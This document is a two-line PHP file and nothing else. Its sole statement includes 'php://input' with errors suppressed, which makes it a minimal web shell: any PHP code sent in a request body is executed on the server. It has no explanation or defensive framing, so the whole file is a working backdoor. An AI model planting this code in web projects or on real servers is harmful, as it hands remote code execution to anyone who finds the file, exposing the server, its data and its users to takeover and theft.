<?php
@include('php://input');
